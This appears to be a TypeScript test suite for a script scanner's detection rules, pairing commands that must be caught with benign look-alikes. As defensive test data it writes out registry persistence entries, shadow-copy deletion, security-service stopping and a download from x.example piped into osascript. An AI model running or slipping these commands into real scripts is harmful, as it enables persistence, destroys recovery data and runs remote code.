/**
 * Red-team round 12: long MSP maintenance scripts, where look-alike parts in different sections had been read
 * together or a setting was taken for an autostart. Each fix with the attack that must still be caught.
 */
import { defenseEvasionRules } from './defense-evasion';
import { downloadExecuteRules } from './download-execute';
import { describeTechniques, type TechniqueTable } from './family-test-support';
import { persistenceRules } from './persistence';

const persistence: TechniqueTable = {
  'screensaver and Session Manager values: only those that run code': {
    flagged: [
      ['reg add "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE /t REG_SZ /d C:\\Users\\Public\\x.scr /f', 'cmd', 'persist.registry'],
      [
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager" /v BootExecute /t REG_MULTI_SZ /d "autocheck autochk *\\0evil" /f',
        'cmd',
        'persist.registry',
      ],
      ['reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\AppCertDlls" /v x /d C:\\x.dll /f', 'cmd', 'persist.registry'],
    ],
    allowed: [
      ['reg add "HKCU\\Control Panel\\Desktop" /v ScreenSaveTimeOut /t REG_SZ /d 900 /f', 'cmd'],
      ['reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Power" /v HiberbootEnabled /t REG_DWORD /d 0 /f', 'cmd'],
    ],
  },
};

const evasion: TechniqueTable = {
  'shadow copies deleted by what gets them, services stopped for maintenance': {
    blocked: [
      ['Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}', 'powershell', 'evasion.shadow-copies.delete'],
      ['$s = Get-CimInstance Win32_ShadowCopy\n$s | Remove-CimInstance', 'powershell', 'evasion.shadow-copies.delete'],
    ],
    flagged: [['sudo systemctl stop clamav-freshclam', 'bash', 'evasion.security-service.stop']],
    allowed: [
      [
        '(Get-CimInstance Win32_ShadowCopy | Measure-Object).Count\nGet-CimInstance Win32_UserProfile | Where-Object { $_.LocalPath -like "*olduser*" } | Remove-CimInstance',
        'powershell',
      ],
      ['sudo systemctl stop clamav-freshclam\nsudo freshclam\nsudo systemctl start clamav-freshclam', 'bash'],
    ],
  },
};

const downloads: TechniqueTable = {
  'a download piped into osascript -l JavaScript': {
    blocked: [['curl -s http://x.example/p.js | osascript -l JavaScript', 'zsh', 'dl.pipe-to-interpreter', 'macos']],
    allowed: [['osascript -l JavaScript -e \'Application("Finder").name()\'', 'zsh', 'macos']],
  },
};

describeTechniques('persistence, red-team round 12', persistenceRules, persistence);
describeTechniques('defence evasion, red-team round 12', defenseEvasionRules, evasion);
describeTechniques('download and execute, red-team round 12', downloadExecuteRules, downloads);
